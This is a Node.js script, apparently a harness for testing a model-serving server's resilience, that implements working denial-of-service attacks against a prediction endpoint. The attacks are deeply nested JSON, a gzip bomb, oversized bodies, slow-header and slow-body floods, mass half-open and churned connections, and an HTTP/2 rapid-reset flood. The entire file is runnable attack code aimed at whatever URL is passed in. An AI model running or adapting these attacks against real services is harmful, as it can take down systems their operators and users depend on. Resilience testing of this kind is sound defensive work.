// A hostile client in a process of its own: node attack.mjs KIND REST_URL GRPC_PORT MODEL runs until it is ended and then
// prints how much it did.
import { connect as connectHttp2, constants } from 'node:http2';
import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';

const [kind, url, grpcPort, model] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const path = `/v1/models/${model}:predict`;
const MANY = 500;
const DEPTH = 500_000;
const BOMB_BYTES = 60 * 1024 * 1024;
const OVERSIZED_BYTES = 80 * 1024 * 1024;
const RETRY_MS = 100;
let count = 0;

const head = (length, more = '') =>
  `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${more}Content-Length: ${length}\r\n\r\n`;

const ATTACKS = {
  'deep JSON': () => repeat(Buffer.from(head(DEPTH) + '['.repeat(DEPTH))),
  'deep JSON in instances': () => {
    const body = `{"instances":${'['.repeat(DEPTH)}1${']'.repeat(DEPTH)}}`;
    repeat(Buffer.from(head(body.length) + body));
  },
  'gzip bomb': () => {
    const body = gzipSync(Buffer.alloc(BOMB_BYTES, ' '));
    repeat(Buffer.concat([Buffer.from(head(body.length, 'Content-Encoding: gzip\r\n')), body]));
  },
  'oversized body': () =>
    repeat(Buffer.concat([Buffer.from(head(OVERSIZED_BYTES)), Buffer.alloc(OVERSIZED_BYTES, ' ')])),
  'slow headers': () =>
    many((socket) => drip(socket, `POST ${path} HTTP/1.1\r\nX-Slow: ${'a'.repeat(4000)}`)),
  'slow bodies': () => many((socket) => drip(socket, head(100_000) + ' '.repeat(4000))),
  'half-open connections': () => many(() => {}),
  'connections opened and dropped': () => {
    const again = () => {
      const socket = open(() => {
        count++;
        socket.destroy();
        setImmediate(again);
      });
    };
    for (let client = 0; client < 4; client++) again();
  },
  'HTTP/2 rapid reset': () => rapidReset(),
};

process.once('SIGTERM', () => {
  process.stdout.write(JSON.stringify({ count }));
  process.exit(0);
});
ATTACKS[kind]();

function open(ready) {
  const socket = connect({ host: hostname, port: Number(port) }, ready);
  socket.on('error', () => {});
  return socket;
}

/** Sends the same request over and over, the next one when the answer to the last one has begun. */
function repeat(bytes) {
  const begin = () => {
    const socket = open(() => socket.write(bytes));
    let isSending = true;
    socket.on('data', () => {
      if (!isSending) return;
      isSending = false;
      count++;
      setImmediate(() => {
        isSending = true;
        socket.write(bytes);
      });
    });
    socket.on('close', () => setTimeout(begin, RETRY_MS));
  };
  begin();
}

/** Keeps many connections open. */
function many(use) {
  const begin = () => {
    const socket = open(() => {
      count++;
      use(socket);
    });
    socket.resume();
    socket.on('close', () => setTimeout(begin, RETRY_MS));
  };
  for (let client = 0; client < MANY; client++) begin();
}

function drip(socket, text) {
  let at = Math.min(40, text.length);
  socket.write(text.slice(0, at));
  const timer = setInterval(() => {
    socket.write(text[at % text.length]);
    at++;
  }, 1000);
  socket.once('close', () => clearInterval(timer));
}

function rapidReset() {
  const begin = () => {
    const session = connectHttp2(`http://127.0.0.1:${grpcPort}`);
    let isOpen = true;
    session.on('error', () => {});
    session.on('goaway', () => {
      isOpen = false;
      session.destroy();
    });
    session.on('close', () => {
      isOpen = false;
      setTimeout(begin, RETRY_MS);
    });
    const burst = () => {
      for (let each = 0; each < 20 && isOpen && !session.destroyed; each++) {
        const stream = session.request({
          ':method': 'POST',
          ':path': '/tensorflow.serving.PredictionService/Predict',
          'content-type': 'application/grpc',
          te: 'trailers',
        });
        stream.on('error', () => {});
        stream.close(constants.NGHTTP2_CANCEL);
        count++;
      }
      if (isOpen && !session.destroyed) setImmediate(burst);
    };
    session.once('connect', burst);
  };
  begin();
}
